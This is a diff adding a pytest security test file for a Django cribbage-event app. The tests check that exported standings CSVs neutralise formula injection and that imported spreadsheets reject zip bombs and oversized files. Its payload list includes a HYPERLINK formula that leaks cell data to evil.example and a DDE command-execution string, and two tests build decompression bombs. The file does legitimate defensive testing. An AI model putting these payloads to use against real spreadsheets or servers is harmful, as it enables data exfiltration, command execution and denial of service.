@@ -1,0 +1,82 @@
+"""Spreadsheets that go out carry no formulas; those that come in can't fill the machine."""
+
+import csv
+import io
+import zipfile
+
+import pytest
+from django.test import Client
+
+from cribbage_events.events.spreadsheet import SpreadsheetError, read_file
+from tests.afternoon import drawn_event, fresh, games_in, say
+from tests.events.views.desk_client import at
+from tests.fuzz.routes import all_routes
+from tests.security.served import every_answer
+
+pytestmark = pytest.mark.django_db
+
+NAMES = [
+    '=HYPERLINK("https://evil.example/?"&A1,"win")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1",
+    'Ann "Ace", Lee\n=1+1',
+]
+
+
+def standings_of(client: Client, names: list[str]) -> list[list[str]]:
+    event = drawn_event([60] * len(names), round_count=1)
+    for entry, name in zip(event.entries.select_related("person"), names, strict=False):
+        entry.person.name = name
+        entry.person.save()
+    for game in games_in(event, 1):
+        say(game, 121, 70)
+    answer = client.get(at(fresh(event), "standings_csv"))
+    return list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
+
+
+def test_no_name_becomes_a_formula_and_every_number_stays_one(client: Client) -> None:
+    heading, *lines = standings_of(client, NAMES)
+    assert len(lines) == len(NAMES)
+    rows = [dict(zip(heading, line, strict=True)) for line in lines]
+    for row in rows:
+        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert sorted(row["name"].removeprefix("'") for row in rows) == sorted(NAMES)
+    assert {row["spread"] for row in rows} == {"51", "-51"}
+    assert {row["plus"] for row in rows} == {"51", "0"}
+
+
+def test_every_table_that_goes_out_is_looked_at_here() -> None:
+    sheets = {
+        answer.route
+        for answer in every_answer(drawn_event([60] * 4))
+        if "csv" in answer.headers.get("Content-Type", "")
+        or "spreadsheet" in answer.headers.get("Content-Type", "")
+    }
+    assert sheets == {"standings_csv"}
+    assert not [route for route in all_routes() if route.template.endswith((".xlsx", ".ods"))]
+
+
+def test_a_small_workbook_that_unpacks_to_a_large_one_is_refused() -> None:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as book:
+        book.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)
+    assert len(packed.getvalue()) < 100_000
+    with pytest.raises(SpreadsheetError, match="too large"):
+        read_file(packed.getvalue())
+
+
+def test_a_workbook_that_lies_about_its_size_is_refused() -> None:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as book:
+        book.writestr("[Content_Types].xml", b" " * 50_000_000)
+    data = packed.getvalue().replace((50_000_000).to_bytes(4, "little"), (50).to_bytes(4, "little"))
+    with pytest.raises(SpreadsheetError):
+        read_file(data)
+
+
+@pytest.mark.parametrize("data", [b"a," * 1_500_000, b"Name\n" + b"Ann\n" * 600, b"\n" * 1_000_000])
+def test_a_huge_list_is_refused(data: bytes) -> None:
+    with pytest.raises(SpreadsheetError):
+        read_file(data)
